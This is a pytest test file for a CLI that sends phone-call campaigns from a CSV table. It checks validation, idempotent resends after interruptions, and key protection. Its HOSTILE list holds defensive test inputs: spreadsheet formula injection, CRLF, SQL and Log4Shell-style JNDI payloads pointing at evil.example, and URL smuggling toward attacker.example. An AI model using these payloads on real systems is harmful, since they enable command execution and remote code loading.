"""`speechcall list send MENU.json people.csv`: exact reports, and one call a row whatever interrupts it."""

import csv
import io
import json
from collections import Counter
from time import process_time
from typing import Any

import httpx
import pytest

from cli import list_send
from cli.api import Api
from cli.exit_codes import FAILED, REFUSED, UNKNOWN
from cli.list_send import MOST_SHOWN, _windows, rejected_cells
from cli.main import app
from cli.people import MOST_ROWS, Part, Person, Unusable, WrongCell, message_for, read_menu, read_people
from speechcall.menus.rules.menu import Webhook
from speechcall.requests.rules.placeholders import read_template
from speechcall.requests.use_cases.check_request import read_request as read_by_service
from tests.kit.command_line import CliRunner

MESSAGE: dict[str, Any] = {
    "from": "Shop",
    "text": "order",
    "type": "speechcall",
    "menu": [
        {
            "say": {"text": "Your order {{order}}.", "language": "en-GB"},
            "dtmfActions": {
                "d1": [{"action": "webhook", "url": "https://shop.example/o/{{order}}", "body": {"order": "{{order}}"}}]
            },
        }
    ],
}
COLUMNS = {"to": "phone", "order": "Order"}


class Service:
    """What the API does with what `list send` asks: it refuses numbers, knows keys, and breaks when it is told to."""

    def __init__(self):
        self.answers: dict[str, tuple[bytes, Any]] = {}
        self.called: Counter[tuple[str, str]] = Counter()
        self.breaks: list[Any] = []
        self.posts = self.checks = 0
        http = httpx.Client(transport=httpx.MockTransport(self.answer))
        self.api = Api("https://api.example", http, sleep=lambda _seconds: None)

    def answer(self, request):
        if request.url.path == "/bat/account":
            return httpx.Response(200, json={"limits": {"callsPerDay": 10_000}, "usedToday": {"calls": 3}})
        assert request.url.params["strict"] == "true"
        body = json.loads(request.content)
        messages = body["messages"]
        if request.url.path.endswith("/check"):
            self.checks += 1
            return httpx.Response(200, json={"messages": [self.judged(one, "acceptable") for one in messages]})
        self.posts += 1
        broken = self.breaks.pop(0) if self.breaks else None
        if broken == "before":
            raise httpx.ConnectError("x")
        if isinstance(broken, httpx.Response):
            return broken
        key = request.headers["idempotency-key"]
        if key not in self.answers:
            for one in messages:
                self.called[one["to"], said(one, body)] += 1
            found = {
                "messagelistId": str(len(self.answers)),
                "messages": [self.judged(one, "sent") for one in messages],
            }
            self.answers[key] = (request.content, found)
        content, found = self.answers[key]
        assert content == request.content
        if broken == "killed":
            raise KeyboardInterrupt
        if broken == "after":
            raise httpx.ReadTimeout("x")
        return httpx.Response(200, json=found)

    @staticmethod
    def judged(one, word):
        if one["to"].startswith("+"):
            return {"recipient": one["to"], "status": word}
        place = {"code": "INVALID_RECIPIENT", "path": "messages[0].to", "message": "must be a phone number"}
        return {"recipient": one["to"], "status": "rejected", "error": place}


def said(one, body):
    """What the first menu says to whom a message calls."""
    menu = one.get("menu") or read_template(body["menus"], "menus")[0].filled(one["vars"])
    return menu[0]["say"]["text"]


@pytest.fixture
def service(monkeypatch):
    made = Service()
    monkeypatch.setattr(list_send, "opened", lambda _url: made.api)
    return made


def table(rows, header=("phone", "Order"), **form):
    out = io.StringIO(newline="")
    csv.writer(out, **form).writerows([header, *rows])
    return out.getvalue().encode()


def run(tmp_path, people, *options, message=MESSAGE):
    (tmp_path / "menu.json").write_text(json.dumps(message), encoding="utf-8")
    (tmp_path / "people.csv").write_bytes(people)
    files = [str(tmp_path / "menu.json"), str(tmp_path / "people.csv")]
    given = ["list", "send", *files, "--url", "https://api.example", "--map", "to=phone", "--map", "order=Order"]
    return CliRunner().invoke(app, [*given, *options])


def people(count):
    return [(f"+38067{number:07}", f"№ {number}; \"a\", 'b'\u00a0=1+1") for number in range(count)]


def test_each_row_is_one_call_with_its_own_values(tmp_path, service):
    done = run(tmp_path, table(people(250)), "--yes", "--json", "--campaign", "spring")
    assert done.exit_code == 0, done.output
    told = json.loads(done.stdout)
    assert (told["rows"], told["sent"], told["wrong"], len(told["messagelistIds"])) == (250, 250, [], 3)
    assert service.called == {(to, f"Your order {order.strip()}."): 1 for to, order in people(250)}
    assert json.loads(next(iter(service.answers.values()))[0])["campaign"] == "spring"


def test_nothing_is_sent_before_everybody_is_checked_and_each_wrong_cell_is_named(tmp_path, service):
    rows = people(230)
    rows[3] = ("", "7")
    rows[120] = ("+380671", "x" * 257)
    rows[121] = ("+380671", "two\nlines")
    rows[200] = ("+380671",)
    done = run(tmp_path, table(rows), "--yes", "--json")
    assert done.exit_code == REFUSED
    assert [(one["row"], one["column"]) for one in json.loads(done.stdout)["wrong"]] == [
        (5, "phone"),
        (122, "Order"),
        (123, "Order"),
        (202, ""),
    ]
    assert (service.posts, service.checks) == (0, 0)
    # What only the service can judge is told the same way
    rows = people(230)
    rows[150] = ("0671234567", "7")
    done = run(tmp_path, table(rows), "--yes")
    assert done.exit_code == REFUSED
    assert 'row 152, column "phone": must be a phone number' in done.stderr
    assert "1 row is wrong; nothing was sent" in done.stderr
    assert service.posts == 0


@pytest.mark.parametrize("breaks", [["killed"], ["", "killed"], [""] + ["after"] * 5, ["", *["before"] * 5]])
def test_the_same_command_again_sends_nothing_twice(tmp_path, service, breaks):
    service.breaks = breaks
    content = table(people(250))
    stopped = run(tmp_path, content, "--yes")
    assert stopped.exit_code == UNKNOWN
    assert "the same command goes on where it stopped" in stopped.stderr
    service.breaks = ["", "killed"]
    assert run(tmp_path, content, "--yes").exit_code == UNKNOWN
    done = run(tmp_path, content, "--yes", "--json")
    assert (done.exit_code, json.loads(done.stdout)["sent"]) == (0, 250)
    assert set(service.called.values()) == {1}
    assert len(service.called) == 250
    # Again on purpose is another word, and another table has other keys
    assert run(tmp_path, content, "--yes", "--again", "2").exit_code == 0
    assert set(service.called.values()) == {2}


HOSTILE = [
    '=HYPERLINK("https://evil.example";"x")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd",
    "{{to}} {{order}} {{{{order}}}}",
    "%00%0d%0aHost: evil.example",
    "../../{{to}}?x=1#@evil.example/",
    "\"quoted, twice\"; and 'once'",
    "</speak><break time='9s'/>",
    "\u202egnirts desrever\u202c",
    "\U0001f600\u0301 \u0130\u0131 \u0149",
    "' OR 1=1 --",
    "${jndi:ldap://evil.example/a}",
    "x" * 256,
]
WRONG = [
    (("", "7"), ["phone"]),
    (("+380", " \t "), ["Order"]),
    (("+380", "x" * 257), ["Order"]),
    (("+380", "one\r\ntwo"), ["Order"]),
    (("+380", "\x1b[2J"), ["Order"]),
    (("+380",), [""]),
    (("+380", "7", "8"), [""]),
    (("\u0660\u0661", "7"), []),
    (("0671234567", "7"), []),
]
"""Cells, and the columns in which the table alone shows that they are wrong; [] is found by the service."""


def hostile(count):
    """Rows whose cells are as bad as they can be and still right."""
    return [(f"+38067{number:07}", f"{number} {HOSTILE[number % len(HOSTILE)]}"[:256]) for number in range(count)]


def hold_a_hostile_table(tmp_path, service, count):
    """Every wrong cell is named and no other, nothing is sent; then one call a row, whatever interrupts the command."""
    for at_once in (True, False):  # what the table shows, and what only the service finds
        rows: list[Any] = hostile(count)
        expected = []
        for turn, (cells, columns) in enumerate(one for one in WRONG if bool(one[1]) == at_once):
            for number in range(turn, count, count // 7 + turn):
                rows[number] = tuple("" if cell is None else cell for cell in cells)
                expected = [one for one in expected if one[0] != number + 2]
                expected += [(number + 2, column) for column in columns or ["phone"]]
        told = run(tmp_path, table(rows), "--yes", "--json")
        assert told.exit_code == REFUSED
        found = [(one["row"], one["column"]) for one in json.loads(told.stdout)["wrong"]]
        assert sorted(found) == sorted(expected)
        assert (len(found) > 10, service.posts) == (True, 0)
    content, parts = table(hostile(count)), -(-count // 100)
    for breaks in (["after"] * 3 + [""] * (parts // 3) + ["killed"], [""] * (parts * 2 // 3) + ["killed"]):
        service.breaks = breaks
        assert run(tmp_path, content, "--yes").exit_code == UNKNOWN
    told = run(tmp_path, content, "--yes", "--json")
    assert (told.exit_code, json.loads(told.stdout)["sent"]) == (0, count)
    assert service.called == {(to, f"Your order {order}."): 1 for to, order in hostile(count)}
    return told


def test_hostile_cells_are_reported_exactly_and_each_right_row_is_one_call(tmp_path, service):
    hold_a_hostile_table(tmp_path, service, 500)


@pytest.mark.long
@pytest.mark.timeout(900)
def test_fifty_thousand_rows_with_two_interruptions(tmp_path, service):
    hold_a_hostile_table(tmp_path, service, MOST_ROWS)


# ------------------------------------------------------------------- a file of its own
def request(count, **envelope):
    said = {"text": "Good morning.", "language": "en-GB"}
    one = {**MESSAGE, "menu": [{"say": said, "dtmfActions": {}}]}
    return {**envelope, "messages": [{**one, "to": f"+38067{number:07}"} for number in range(count)]}


def run_file(tmp_path, given, *options):
    (tmp_path / "request.json").write_text(given if isinstance(given, str) else json.dumps(given), encoding="utf-8")
    file = str(tmp_path / "request.json")
    return CliRunner().invoke(app, ["list", "send", file, "--url", "https://api.example", *options])


def test_the_messages_of_a_file_are_sent_as_they_stand_and_once(tmp_path, service):
    given = request(230, statusUrl="https://shop.example/s")
    service.breaks = ["", "killed"]
    assert run_file(tmp_path, given, "--yes").exit_code == UNKNOWN
    told = run_file(tmp_path, given, "--yes", "--json")
    assert (told.exit_code, json.loads(told.stdout)["sent"]) == (0, 230)
    assert set(service.called.values()) == {1}
    sent = [json.loads(content) for content, _ in service.answers.values()]
    assert [one for part in sent for one in part["messages"]] == given["messages"]
    assert {part["statusUrl"] for part in sent} == {"https://shop.example/s"}
    # One message by itself is a file too.
    assert run_file(tmp_path, given["messages"][0], "--yes").exit_code == 0


def test_what_is_wrong_with_a_file_is_told_by_the_number_of_its_message(tmp_path, service):
    given = request(230)
    given["messages"][150]["to"] = "0671234567"
    told = run_file(tmp_path, given, "--yes")
    assert told.exit_code == REFUSED
    assert "message 151: to must be a phone number" in told.stderr
    assert "1 message is wrong; nothing was sent" in told.stderr
    assert service.posts == 0


@pytest.mark.parametrize(
    "given",
    [
        "{",
        "[]",
        "{}x",
        '{"messages": []}',
        '{"messages": [5]}',
        '{"messages": [{"text": "\\ud800"}]}',
        '{"messages": [{"ttl": NaN}]}',
        "[" * 200_000,
        '{"menu": [{"say": {"text": "{{order}}"}}]}',
    ],
)
def test_a_file_that_cannot_be_sent_is_refused_before_anything(tmp_path, service, given):
    told = run_file(tmp_path, given, "--yes")
    assert (told.exit_code, service.checks) == (2, 0)


def test_a_map_needs_a_table(tmp_path, service):
    assert run_file(tmp_path, request(1), "--yes", "--map", "to=phone").exit_code == 2


def test_hours_are_told_before_anybody_is_called(tmp_path, service):
    windows = [{"from": "09:00", "to": "20:00", "days": ["mon", "tue"]}]
    told = run_file(tmp_path, request(2, windows=windows, timeZone="Europe/Kyiv"))
    assert "Phones ring mon,tue 09:00-20:00 Europe/Kyiv." in told.stderr
    assert "Phones ring at every hour." in run_file(tmp_path, request(2)).stderr


@pytest.mark.parametrize("windows", [5, True, "mon", {"from": "09:00"}, [5, None, "x", ["y"]], [{"from": {}}]])
def test_hours_of_another_type_are_left_to_the_check(tmp_path, service, monkeypatch, windows):
    """As the API does: it refuses the message, or the request, with the place. Nothing ends in a traceback before."""
    error = {"code": "INVALID_WINDOW", "path": "messages[0].windows", "message": "must be an array"}
    wrong = {"recipient": "+38067", "status": "rejected", "error": error}
    monkeypatch.setattr(service, "judged", lambda *_: wrong)
    own = request(2)
    for one in own["messages"]:
        one["windows"] = windows
    for given in (request(2, windows=windows), own):
        told = run_file(tmp_path, given, "--yes")
        assert told.exit_code == REFUSED, told.exception
        assert "message 1: windows must be an array" in told.stderr
    assert run(tmp_path, table(people(1)), "--yes", message={**MESSAGE, "windows": windows}).exit_code == REFUSED
    assert service.checks == 3


def test_the_hours_of_many_messages_are_found_in_one_walk():
    """Each message with hours of its own. To compare each with all before it took 72 s for 50,000 messages."""
    count = MOST_ROWS // 5
    given = request(count)
    for number, one in enumerate(given["messages"]):
        one["windows"] = [{"from": "09:00", "to": "20:00"}, {"from": f"{number}", "to": "20:00"}]
    began = process_time()
    found = _windows({"timeZone": "Europe/Kyiv"}, *given["messages"])
    assert process_time() - began < 2
    assert len(found) == MOST_SHOWN
    assert found[:3] == [{"from": hour, "to": "20:00", "timeZone": "Europe/Kyiv"} for hour in ("09:00", "0", "1")]
    # The same hours in each message are walked to the end.
    began = process_time()
    assert len(_windows({}, *[{"windows": [{"from": "09:00", "to": "20:00"}] * 7}] * count)) == 1
    assert process_time() - began < 5


def test_a_cell_is_blamed_for_its_own_place_alone(tmp_path):
    """The last name of another place may be a column's too: `fallback.text`, what a menu says."""
    columns = {"to": "phone", "text": "Note", "order": "Order"}
    expected = {
        "messages[7].to": ("phone", "is wrong"),
        "messages[7].text": ("Note", "is wrong"),
        "messages[7].vars.order": ("Order", "is wrong"),
        "messages[7].fallback.text": ("", "fallback.text is wrong"),
        "messages[7].menu[0].say.text": ("", "menu[0].say.text is wrong"),
        "messages[7].vars.text": ("", "vars.text is wrong"),
        "messages[7].order": ("", "order is wrong"),
        "messages[7].vars": ("", "vars is wrong"),
        "messages[7]": ("", "is wrong"),
    }
    for path, (column, why) in expected.items():
        error = {"code": "INVALID", "path": path, "message": "is wrong"}
        answer = {"messages": [{"status": "rejected", "error": error}]}
        found = list(rejected_cells(Part([Person(2, {})], ""), answer, columns))
        assert found == [WrongCell(2, column, why)], path


def test_a_refusal_on_the_way_is_told_and_leaves_the_rest(tmp_path, service):
    service.breaks = ["", too_fast("35200", "This account may make 50 calls a day.")]
    done = run(tmp_path, table(people(250)), "--yes")
    assert done.exit_code == REFUSED
    assert "100 of 250 sent" in done.stdout
    assert "50 calls a day" in done.stderr
    service.breaks = [too_fast("2", "Too fast.")]
    assert run(tmp_path, table(people(250)), "--yes").exit_code == 0
    assert set(service.called.values()) == {1}


def too_fast(seconds, sentence):
    error = {"error": {"code": "RATE_LIMITED", "message": sentence}}
    return httpx.Response(429, json=error, headers={"Retry-After": seconds})


def test_nobody_is_called_without_a_yes(tmp_path, service):
    done = run(tmp_path, table(people(3)))
    assert done.exit_code == 2
    assert "--yes" in done.stderr
    assert "3 calls as Shop" in done.stderr
    assert service.posts == 0


@pytest.mark.parametrize(
    ("content", "says"),
    [
        (b"", "empty"),
        (b"phone,Order\r\n", "no rows"),
        (b"phone,order\r\n+1,2\r\n", 'no column "Order"'),
        (b"phone,Order,phone\r\n+1,2,3\r\n", 'more than one column "phone"'),
        ("phone,Order\r\n+1,Зоя\r\n".encode("cp1251"), "line 2"),
        (b"phone,Order\r\n+1,\0\r\n", "NUL"),
        (b'phone,Order\r\n+1,"a\r\n', "no CSV"),
        (b"phone,Order\r\n" + b"+1,2\r\n" * 4, "more than 3 rows"),
    ],
)
def test_a_table_that_cannot_be_used_is_refused_whole(monkeypatch, content, says):
    monkeypatch.setattr("cli.people.MOST_ROWS", 3)
    with pytest.raises(Unusable, match=says):
        read_people(content, COLUMNS)


@pytest.mark.parametrize("delimiter", [",", ";", "\t"])
def test_a_table_is_read_as_spreadsheets_write_it(delimiter):
    rows = [("+380671234567", "a,b;c d"), ("", ""), ("+380671234568", 'say "yes"')]
    found, wrong = read_people(b"\xef\xbb\xbf" + table(rows, delimiter=delimiter), COLUMNS)
    assert [(one.row, one.values["order"]) for one in found] == [(2, "a,b;c d"), (4, 'say "yes"')]
    assert wrong == []


def test_values_lead_to_no_other_server_and_are_read_once():
    message, envelope = read_menu(json.dumps(MESSAGE).encode(), COLUMNS)
    made = message_for(message, {"to": "+380671234567", "order": "../{{to}}?x=1#@attacker.example/"})
    body = json.dumps({**envelope, "messages": [made]}).encode()
    ((menu,),) = (one.wanted.menus for one in read_by_service(body, strict=True).entries)
    action = menu.actions["d1"][0]
    assert isinstance(action, Webhook)
    assert action.url == "https://shop.example/o/..%2F%7B%7Bto%7D%7D%3Fx%3D1%23%40attacker.example%2F"
    assert json.loads(action.body) == {"order": "../{{to}}?x=1#@attacker.example/"}
    assert menu.say.text == "Your order ../{{to}}?x=1#@attacker.example/."


def test_the_menus_are_sent_once_and_those_of_a_request_have_values_too():
    request = {"menus": MESSAGE["menu"], "messages": [{"vars": {"order": "1"}}]}
    for columns, made_vars in (({"to": "phone"}, {"order": "1"}), ({"to": "phone", "text": "note"}, {"order": "1"})):
        message, envelope = read_menu(json.dumps(request).encode(), columns)
        assert message_for(message, {"to": "+1"}) == {"to": "+1", "vars": made_vars}
        assert envelope == {"menus": MESSAGE["menu"]}
    with pytest.raises(Unusable, match=r"\{\{order\}\}"):
        read_menu(json.dumps(request).encode(), COLUMNS)


@pytest.mark.parametrize(
    ("change", "columns", "says"),
    [
        ({}, {"to": "phone"}, "{{order}}"),
        ({}, {**COLUMNS, "colour": "c"}, "{{colour}}"),
        ({}, {"order": "Order"}, "--map to"),
        ({"say": {"text": "{{ order }}", "language": "en-GB"}}, COLUMNS, "without a name"),
        ({"say": {"text": "{{order}}", "language": "{{order}}"}}, COLUMNS, r"say\.language has"),
        ({"introUrl": "https://{{order}}.example/a.wav"}, COLUMNS, "in its host"),
        ({"introUrl": "{{order}}"}, COLUMNS, "is no URL"),
    ],
)
def test_a_menu_that_cannot_be_filled_is_refused_before_anything(change, columns, says):
    given = {**MESSAGE, "menu": [{**MESSAGE["menu"][0], **change}]}
    with pytest.raises(Unusable, match=says):
        read_menu(json.dumps(given).encode(), columns)


@pytest.mark.parametrize("content", [b"{", b"[]", b'{"messages": []}', b'{"messages": [{}, {}]}', b'{"messages": 7}'])
def test_a_file_that_is_no_message_is_refused(content):
    with pytest.raises(Unusable):
        read_menu(content, COLUMNS)


@pytest.mark.parametrize("url", ["http://api.example.com", "api.example.com", "https://u:p@api.example.com"])
def test_the_key_goes_nowhere_else(tmp_path, monkeypatch, url):
    monkeypatch.setenv("SPEECHCALL_KEY", "k")
    done = run(tmp_path, table(people(1)), "--url", url, "--yes")
    assert done.exit_code == 2
    monkeypatch.delenv("SPEECHCALL_KEY")
    done = run(tmp_path, table(people(1)), "--yes")
    assert (done.exit_code, "SPEECHCALL_KEY" in done.stderr) == (2, True)
    assert FAILED == 1
